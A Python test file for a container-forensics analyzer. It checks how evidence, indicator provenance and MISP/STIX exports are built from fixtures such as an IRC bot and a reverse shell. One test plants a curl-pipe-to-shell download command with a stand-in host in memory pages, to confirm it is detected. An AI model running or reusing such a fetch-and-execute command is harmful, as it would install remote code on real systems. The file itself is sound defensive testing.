"""kcsi analyze's evidence model, indicators and exports (issue 13, issue 16):
structured evidence (file offsets as numbers, connections with the keys of
`kcsi net --json`), IOC provenance as an object, no empty evidence items, the
merge reading old and new detonation layouts.  Every archive is a fixture or
built here from one; time is bounded by subprocess timeouts, never measured."""
import io
import os
import tarfile

import kt
from kt import eq, fixture
from test_triage import _detonation
import test_hostile_reader as hr


def report(name, *extra):
    return kt.jrun('analyze', '--format', 'json', *extra, fixture(name))


def findings(r, fid):
    return [f for f in r['findings'] if f['id'] == fid]


# ---------------------------------------------------------------- structured evidence

def test_evidence_connection_has_the_keys_and_values_of_net():
    """A connection was one string, "TCP 127.0.0.1:38898 -> 127.6.6.6:6667
    ESTABLISHED", that machines had to parse.  It is proto, src, sport, dst,
    dport and state as `kcsi net --json` names them (numbers as numbers), and
    the text is kept beside it."""
    r = report('perlbot')
    net = kt.jrun('net', '--json', fixture('perlbot'))['sockets']
    irc = findings(r, 'KCSI-NET-IRC-001')
    assert irc, [f['id'] for f in r['findings']]
    ev = [e for f in irc for e in f['evidence'] if 'dport' in e]
    assert ev, irc
    keys = ('proto', 'src', 'sport', 'dst', 'dport', 'state')
    rows = [{k: s[k] for k in keys} for s in net]
    for e in ev:
        assert isinstance(e['sport'], int) and isinstance(e['dport'], int), e
        assert {k: e[k] for k in keys} in rows, (e, rows)
        eq(e['connection'], '%s %s:%d -> %s:%d %s' % tuple(e[k] for k in keys), 'the text form')
    shell = findings(report('revshell'), 'KCSI-SHELL-001')
    eq((shell[0]['evidence'][0]['dst'], shell[0]['evidence'][0]['dport']), ('127.6.6.7', 4444), 'reverse shell peer')


def test_file_offset_is_a_number():
    """A YARA match in a file gave `"area": "offset 908"`; the offset is a
    number of its own now (and area is only ever a memory area), and it is
    where the matched bytes are in the file."""
    r = report('perlbot')
    ev = [e for f in r['findings'] if f['id'].startswith('KCSI-YARA-') for e in f['evidence']
          if e.get('path') == '/tmp/perlbot.pl' and 'excerpt' in e]
    assert ev, 'YARA matches in /tmp/perlbot.pl'
    out = os.path.join(kt.tmpdir(), 'ioc-recover-perlbot')
    if not os.path.isdir(out):
        kt.run('recover', '--out', out, fixture('perlbot'))
    found = [os.path.join(d, f) for d, _, fs in os.walk(out) for f in fs if f.endswith('perlbot.pl')]
    assert found, 'recover wrote perlbot.pl'
    data = open(found[0], 'rb').read()
    for e in ev:
        assert isinstance(e.get('offset'), int), e
        assert not e.get('area', '').startswith('offset'), e
        matched = e['excerpt'].split(': ', 1)[1].encode()
        eq(data[e['offset']:e['offset'] + len(matched)], matched, 'the bytes at the offset')


def test_no_empty_evidence_items():
    """Some evidence items held nothing a reader could use and printed as
    blank lines (the host-network finding: only a command, which the text
    report does not show).  No item is only its kind, and no evidence line of
    the text report is blank."""
    for name in ('perlbot', 'revshell', 'memfd', 'counter'):
        r = report(name)
        for f in r['findings']:
            for e in f['evidence']:
                assert set(e) - {'kind'}, (name, f['id'], e)
        _, text, _ = kt.run('analyze', fixture(name))
        lines = text.decode().splitlines()
        for i, line in enumerate(lines):
            if line.startswith(('low ', 'medium ', 'high ', 'critical ')):
                nxt = lines[i + 1] if i + 1 < len(lines) else ''
                assert not (nxt.startswith(' ') and not nxt.strip()), (name, line)


# ---------------------------------------------------------------- IOC provenance

def test_ioc_provenance_is_an_object():
    """An IOC's source was free text ("memory pid 15 0x556a... (heap)").  It
    is an object: a connected peer names its pid and fd; a memory IOC its pid,
    its own address (where memgrep finds the value) and the area."""
    r = report('perlbot')
    by = {(i['type'], i['value']): i for i in r['iocs']}
    peer = by[('ipv4', '127.6.6.6')]['provenance']
    eq((peer['kind'], peer['pid'], peer['fd']), ('connection', 15, 5), 'the connected peer')
    mem = [i for i in r['iocs'] if i.get('provenance', {}).get('kind') == 'memory']
    assert mem, r['iocs']
    for i in mem:
        p = i['provenance']
        assert isinstance(p['pid'], int) and p['address'].startswith('0x') and p['area'], i
        assert i['source'] == 'memory pid %d %s (%s)' % (p['pid'], p['address'], p['area']), i
    url = by[('url', 'http://198.51.100.23/x.sh')]['provenance']
    hits = kt.jrun('memgrep', '--json', '--pid', str(url['pid']), fixture('perlbot'), 'http://198.51.100.23/x.sh')
    assert url['address'] in {h['address'] for h in hits}, (url, hits)
    sha = [i for i in report('memfd')['iocs'] if i['type'] == 'sha256']
    eq([(i['provenance']['kind'], i['provenance']['origin'], i['provenance']['path']) for i in sha],
       [('file', 'memfd', '/memfd:kdevtmpfsi')], 'a program file')


# ---------------------------------------------------------------- the merge reads both layouts

def test_merge_reads_old_and_new_detonation_layouts():
    """The merge read a detonation's connection and IOC source as text only;
    schema 2 writes the connection's parts, offsets and provenance objects.
    Both layouts are read: the old text stays, the new parts come through."""
    old = {'id': 'KCSI-DYN-OLD-001', 'severity': 'low', 'title': 'old', 'explanation': 'e', 'mitre': ['T1071'],
           'evidence': [{'kind': 'socket', 'pid': -1, 'fd': -1, 'connection': 'TCP 10.0.0.2:4000 -> 1.2.3.4:80 (irc)'}]}
    new = {'id': 'KCSI-DYN-NEW-001', 'severity': 'low', 'title': 'new', 'explanation': 'e', 'mitre': ['T1071'],
           'evidence': [{'kind': 'socket', 'pid': 7, 'fd': 3, 'proto': 'TCP', 'src': '10.0.0.2', 'sport': 4000,
                         'dst': '1.2.3.5', 'dport': 6667, 'state': 'ESTABLISHED'},
                        {'kind': 'file', 'pid': -1, 'fd': -1, 'path': '/tmp/x', 'offset': 77},
                        {'kind': 'socket', 'pid': -1, 'fd': -1, 'sport': 'bad', 'offset': -4}]}
    iocs = [{'type': 'domain', 'value': 'old.example.net', 'source': 'detonation: DNS query', 'count': 1},
            {'type': 'ipv4', 'value': '1.2.3.5', 'source': 'x', 'count': 2,
             'provenance': {'kind': 'detonation', 'pid': 7, 'detail': 'detonation: TCP connection tried'}}]
    d = _detonation('ioc-layouts', [old, new], iocs)
    r = kt.jrun('analyze', '--detonation', d, '--format', 'json', fixture('counter'))
    o = findings(r, 'KCSI-DYN-OLD-001')[0]['evidence'][0]
    eq(o['connection'], 'TCP 10.0.0.2:4000 -> 1.2.3.4:80 (irc)', 'old text kept')
    assert 'dport' not in o, o
    n = findings(r, 'KCSI-DYN-NEW-001')[0]['evidence']
    eq({k: n[0][k] for k in ('pid', 'fd', 'proto', 'src', 'sport', 'dst', 'dport', 'state', 'connection')},
       {'pid': 7, 'fd': 3, 'proto': 'TCP', 'src': '10.0.0.2', 'sport': 4000, 'dst': '1.2.3.5', 'dport': 6667,
        'state': 'ESTABLISHED', 'connection': 'TCP 10.0.0.2:4000 -> 1.2.3.5:6667 ESTABLISHED'}, 'new parts')
    eq((n[1]['path'], n[1]['offset']), ('/tmp/x', 77), 'the offset')
    eq(set(n[2]) - {'command'}, {'kind'}, 'bad numbers are not read')
    by = {i['value']: i for i in r['iocs']}
    eq((by['old.example.net']['provenance']['kind'], by['old.example.net']['source']),
       ('detonation', 'detonation: DNS query'), 'old source text')
    eq((by['1.2.3.5']['provenance']['pid'], by['1.2.3.5']['provenance']['detail']),
       (7, 'detonation: TCP connection tried'), 'new provenance')


# ---------------------------------------------------------------- IOC quality

def _counter_with(name, pages=None, files=()):
    """The counter fixture with bytes replaced in its memory pages
    (pages: [(old, new)] of equal length, every occurrence) and files added
    to its rootfs diff (files: [(path, bytes)])."""
    ms = hr.members('counter')
    for member, (ti, data) in list(ms.items()):
        if data is None or not member.startswith('checkpoint/pages-'):
            continue
        for old, new in pages or ():
            assert len(old) == len(new), (old, new)
            data = data.replace(old, new)
        hr.put(ms, member, data)
    if files:
        buf = io.BytesIO()
        with tarfile.open(fileobj=io.BytesIO(ms['rootfs-diff.tar'][1])) as old, \
                tarfile.open(fileobj=buf, mode='w', format=tarfile.GNU_FORMAT) as new:
            for ti in old.getmembers():
                new.addfile(ti, old.extractfile(ti) if ti.isfile() else None)
            for path, data in files:
                ti = tarfile.TarInfo(path.lstrip('/'))
                ti.size, ti.mode, ti.mtime = len(data), 0o644, 1700000000
                new.addfile(ti, io.BytesIO(data))
        hr.put(ms, 'rootfs-diff.tar', buf.getvalue())
    return hr.write_tar(ms, hr.tmp('ioc-%s.tar' % name))


def _analyze(path, *extra):
    return kt.jrun('analyze', '--format', 'json', '--no-builtin-rules', *extra, path)


def test_counter_exports_no_indicators():
    """The clean counter fixture exported glibc.malloc.top (from the glibc
    tunable glibc.malloc.top_pad, in ld.so's own pages) as a domain, IDS-ready
    in MISP and a STIX indicator.  It exports no indicator at all."""
    r = report('counter')
    eq(r['iocs'], [], 'IOCs of the clean counter')
    misp = kt.jrun('analyze', '--format', 'misp', fixture('counter'))['Event']
    eq([a for a in misp['Attribute'] if a['to_ids']], [], 'MISP attributes for IDS')
    stix = kt.jrun('analyze', '--format', 'stix', fixture('counter'))
    eq([o for o in stix['objects'] if o['type'] == 'indicator'], [], 'STIX indicators')


IMAGE_KEY = b'glibc.malloc.top_pad'  # in ld.so's relocated read-only page of both processes
PLANTED = b'c2.kcsi-img.com'


def test_image_strings_are_not_indicators():
    """A string in a file-backed mapping of a file of the image is the
    image's own, not an indicator (ld.so's tunables, python's license URLs
    were exported from every archive).  The same bytes in a mapping of a file
    the container changed (rootfs diff), or also in the heap, are exported,
    with the provenance of that place."""
    planted = PLANTED + b'\0' * (len(IMAGE_KEY) - len(PLANTED))
    only_image = _counter_with('image-only', [(IMAGE_KEY, planted)])
    hits = kt.jrun('memgrep', '--json', only_image, PLANTED.decode())
    assert hits and all(h['area'].endswith('/ld-linux-x86-64.so.2') for h in hits), hits
    r = _analyze(only_image)
    eq([i['value'] for i in r['iocs']], [], 'only in the image\'s mapped ld.so')
    # ld.so changed in the container: its pages are no longer the image's
    changed = _counter_with('image-changed', [(IMAGE_KEY, planted)],
                            [('/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', b'\x7fELF changed')])
    r = _analyze(changed)
    dom = [i for i in r['iocs'] if i['value'] == PLANTED.decode()]
    assert dom, r['iocs']
    eq((dom[0]['provenance']['kind'], dom[0]['provenance']['area']),
       ('memory', '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2'), 'provenance: the changed file\'s mapping')
    # the same value in the heap too: exported, first seen there
    both = _counter_with('image-and-heap', [(IMAGE_KEY, planted), (b'RANDOM_1432_KEY', PLANTED)])
    r = _analyze(both)
    dom = [i for i in r['iocs'] if i['value'] == PLANTED.decode()]
    assert dom and dom[0]['provenance']['area'] in ('heap', 'anon', 'stack'), dom


NOTES = b'\n'.join([
    b'resolver query A.MFRGGZDF.tun-zone.top answered',     # base32 labels, upper case, one-character label
    b'relay x.kcsi-c2.net ready',                           # one-character first label
    b'GLIBC_TUNABLES=glibc.malloc.top_pad=1',               # a configuration key
    b'print(sys.int_info)',                                 # code
    b'fmt = "http://203.0.113.%d/beacon"',                  # a printf format
    b'color = Color.RED; name = obj.name; os.open',          # code
    b'run ./setup.py and deploy.sh',                         # file names
    b'see https://click. and http://www and evil.notatld',  # cut-off and unknown names
    b'contact ops@kcsi-c2.net or ops@localhost',
])


def test_names_by_the_public_suffix_list():
    """Names were found in lower case only, with a first label of two
    characters or more and a fixed list of top-level domains: a tunnel's
    base32 query names and one-character labels were lost, while a printf
    format (203.0.113.%d) and a configuration key (glibc.malloc.top from
    glibc.malloc.top_pad) were domains.  Names are checked against the Public
    Suffix List in any case; formats, code and file names are not names."""
    path = _counter_with('names', files=[('/srv/notes.txt', NOTES)])
    r = _analyze(path)
    got = {(i['type'], i['value']) for i in r['iocs']}
    for want in [('domain', 'a.mfrggzdf.tun-zone.top'), ('domain', 'x.kcsi-c2.net'), ('email', 'ops@kcsi-c2.net')]:
        assert want in got, (want, sorted(got))
    values = ' '.join(v for _, v in got)
    for bad in ('glibc.malloc.top', 'sys.int', '203.0.113.%d', 'color.red', 'obj.name', 'os.open', 'setup.py',
                'deploy.sh', 'click.', 'http://www', 'notatld', 'localhost'):
        assert bad not in values, (bad, sorted(got))


def test_names_are_not_cut_at_piece_boundaries():
    """A long line was scanned in pieces of 4096 bytes: smtp.kcsi-mail.net
    across the cut gave s and mtp.kcsi-mail.net.  Pieces end between words."""
    for shift in range(0, 13, 3):
        line = b'x' * 10 + b' ' + b'w' * (4096 - 11 - 5 - shift) + b' smtp.kcsi-mail.net ' + b'y' * 200
        assert line.index(b'smtp') < 4096 < line.index(b'smtp') + 18, shift
        r = _analyze(_counter_with('cut-%d' % shift, files=[('/var/log/long.log', line)]))
        names = sorted(i['value'] for i in r['iocs'] if i['type'] == 'domain' and 'kcsi-mail' in i['value'])
        eq(names, ['smtp.kcsi-mail.net'], 'names (shift %d)' % shift)


def test_repeated_emails_of_a_log_are_aggregated():
    """A log with thousands of e-mail addresses exported each one as an IOC
    (19,000 in a mail log).  More than a few of one domain in one place are
    one aggregate (*@domain) with the sightings and the distinct addresses
    counted; a few of another domain stay as they are."""
    lines = [b'delivered to user%d@mail-%d.kcsi-shop.com' % (i, i % 3) for i in range(600)]
    lines += [b'bounce from admin%d@kcsi-partner.org' % i for i in range(3)]
    r = _analyze(_counter_with('maillog', files=[('/var/log/mailer.log', b'\n'.join(lines) + b'\n')]))
    mails = {i['value']: i for i in r['iocs'] if i['type'] == 'email'}
    for d in range(3):
        agg = mails.get('*@mail-%d.kcsi-shop.com' % d)
        assert agg, sorted(mails)
        eq((agg['distinct'], agg['count'], agg['to_ids']), (200, 200, False), 'the aggregate')
        eq(agg['provenance']['path'], '/var/log/mailer.log', 'its place')
    eq(sorted(v for v in mails if 'kcsi-partner' in v), ['admin%d@kcsi-partner.org' % i for i in range(3)], 'a few')
    eq(len(mails), 6, 'no address of the log one by one')


def _misp_ids(path, *extra):
    ev = kt.jrun('analyze', '--format', 'misp', *extra, path)['Event']
    return {a['value']: a['to_ids'] for a in ev['Attribute'] if a['category'] != 'Other'}


def _stix_indicated(path, *extra):
    b = kt.jrun('analyze', '--format', 'stix', *extra, path)
    return {o['name'].split(' ', 1)[1] for o in b['objects'] if o['type'] == 'indicator'}


def test_only_indicators_worth_blocking_are_ids():
    """Every public value was IDS-ready in MISP, and every IOC a STIX
    indicator of malicious activity, loopback peers included.  An indicator
    is worth blocking when a finding of medium severity or above points at it
    (the peer of its connection, its excerpt, its file) and its class means
    something on other networks; the rest are observables."""
    r = report('perlbot')
    ids = {i['value']: i['to_ids'] for i in r['iocs']}
    for v in ('127.6.6.6', '127.7.7.7', '198.51.100.23', 'http://198.51.100.23/x.sh', '#perlbot'):
        eq(ids[v], False, v)
    bot = [i for i in r['iocs'] if i['type'] == 'sha256' and i['provenance']['path'] == '/tmp/perlbot.pl']
    eq([i['to_ids'] for i in bot], [True], 'the dropped bot\'s hash')
    misp = _misp_ids(fixture('perlbot'))
    eq({v: misp[v] for v in ids if v in misp}, {v: ids[v] for v in ids if v in misp}, 'MISP to_ids as the report')
    eq(_stix_indicated(fixture('perlbot')), {v for v, x in ids.items() if x}, 'STIX indicators')
    # a merged detonation: a public peer a high finding names, one nothing names, a private one named
    conn = {'kind': 'socket', 'pid': 9, 'fd': 3, 'proto': 'TCP', 'src': '10.0.0.2', 'sport': 40000,
            'dst': '45.33.32.156', 'dport': 4444, 'state': 'ESTABLISHED'}
    f = {'id': 'KCSI-DYN-C2-001', 'severity': 'high', 'title': 'beacon', 'explanation': 'e', 'mitre': ['T1071'],
         'evidence': [conn, dict(conn, dst='10.1.2.3')]}
    iocs = [{'type': 'ipv4', 'value': v, 'source': 'detonation', 'count': 1}
            for v in ('45.33.32.156', '8.8.4.4', '10.1.2.3', '10.0.0.2')]
    d = _detonation('ioc-ids', [f], iocs)
    r = kt.jrun('analyze', '--detonation', d, '--format', 'json', fixture('counter'))
    got = {i['value']: i['to_ids'] for i in r['iocs']}
    eq(got, {'45.33.32.156': True, '8.8.4.4': False, '10.1.2.3': False, '10.0.0.2': False}, 'to_ids')
    eq({v: x for v, x in _misp_ids(fixture('counter'), '--detonation', d).items() if v in got}, got, 'MISP')
    eq(_stix_indicated(fixture('counter'), '--detonation', d), {'45.33.32.156'}, 'STIX indicators')


def test_image_page_text_a_finding_points_at_is_kept():
    """Text planted in a checkpointed page of /usr/bin/dash's mapping: a host
    name alone there is the image's own string and is not exported, but a
    download-and-run command there is a finding, and the URL it names stays
    an indicator (a page of an image file that holds what a rule found is
    not the file's)."""
    import test_memory
    _, runs = test_memory._planted('ioc-image-page', [])
    dash = [v for v in kt.jrun('maps', '--json', '--pid', '1', fixture('counter'))
            if v.get('path') == '/usr/bin/dash' and v['pages']]
    run = [r for r in runs if any(int(v['start'], 16) <= r[0] < int(v['end'], 16) for v in dash) and r[1] >= 4096][0]
    va = run[0] + 64
    d, _ = test_memory._planted('ioc-image-page', [(va, b'curl -fsSL http://kcsi-drop.net/a.sh | sh\x00'),
                                                   (va + 256, b'beacon update.kcsi-beacon.org every 60s\x00')])
    r = _analyze(d)
    assert [f for f in r['findings'] if f['id'] == 'KCSI-DL-001'], [f['id'] for f in r['findings']]
    vals = {i['value']: i for i in r['iocs']}
    assert 'http://kcsi-drop.net/a.sh' in vals and 'kcsi-drop.net' in vals, sorted(vals)
    eq(vals['kcsi-drop.net']['provenance']['area'], '/usr/bin/dash', 'where it was')
    assert 'update.kcsi-beacon.org' not in vals, sorted(vals)
